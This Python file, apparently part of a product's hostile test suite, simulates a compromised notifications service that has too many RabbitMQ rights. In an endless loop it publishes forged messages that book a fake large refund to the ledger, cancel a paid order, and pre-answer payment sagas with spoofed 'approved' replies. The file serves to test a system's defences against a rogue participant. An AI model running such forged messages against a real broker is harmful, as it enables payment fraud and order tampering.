"""A compromised service, which sends to RabbitMQ all messages that its rights allow.

`python -m tests.hostile.rogue PLAN` connects as the notifications service, whose broker user has got all
rights from a careless operator. It answers commands to other services, books a refund that was never made,
and cancels an order that is paid.
"""

import json
import sys
import time
import uuid
from dataclasses import asdict, dataclass
from urllib.parse import unquote, urlsplit

import pika
from pika.adapters.blocking_connection import BlockingChannel

PARTICIPANT = "notifications"
# The prefix of message ids, which tells its dead letters from those of the product's own messages.
NAME = "poison-rogue"
PAUSE_SECONDS = 0.5
# The number of sagas, from the known one on, for which it sends answers in advance.
SAGAS_AHEAD = 20
MINOR = 999_999


@dataclass(frozen=True)
class Plan:
    """The targets. `saga` is a saga's number, seen in a command; `refund` and `cancel` are payments."""

    broker_url: str
    saga: int
    refund: str
    cancel: str

    def as_json(self) -> str:
        return json.dumps(asdict(self))


def attack(plan: Plan) -> None:
    """Attack until the process is ended."""
    connection = pika.BlockingConnection(pika.URLParameters(plan.broker_url))
    print("{}", flush=True)  # the attack has begun, and receives no answers to count
    speaks = Voice(connection.channel(), unquote(urlsplit(plan.broker_url).username or ""))
    while True:
        refund = {"payment": plan.refund, "kind": "refunded", "reference": "op_" + 32 * "0"}
        speaks.command("ledger", "ledger.post", {**refund, "minor": MINOR, "currency": "GBP"})
        speaks.command("orders", "orders.cancel", {"payment": plan.cancel})
        for saga in range(plan.saga, plan.saga + SAGAS_AHEAD):
            speaks.answer(
                f"{saga}::payments:{uuid.uuid4().hex}", {"outcome": "approved", "event": "AUTHORISED"}
            )
        connection.process_data_events(PAUSE_SECONDS)
        time.sleep(0)


@dataclass(frozen=True)
class Voice:
    """A publisher with one broker user, whose name the broker checks."""

    channel: BlockingChannel
    user: str

    def command(self, service: str, kind: str, body: dict[str, object]) -> None:
        self._publish("checkout.commands", service, kind, body)

    def answer(self, question: str, result: dict[str, object]) -> None:
        body = {"ok": True, "result": result}
        self._publish("checkout.replies", "checkout.replies.saga", "reply", body, question)

    def _publish(self, exchange: str, key: str, kind: str, body: dict[str, object], about: str = "") -> None:
        properties = pika.BasicProperties(
            message_id=f"{NAME}-{uuid.uuid4()}",
            correlation_id=about or None,
            type=kind,
            content_type="application/json",
            delivery_mode=2,
            app_id=PARTICIPANT,
            user_id=self.user,
            timestamp=int(time.time()),
        )
        self.channel.basic_publish(exchange, key, json.dumps(body).encode(), properties)


if __name__ == "__main__":
    attack(Plan(**json.loads(sys.argv[1])))
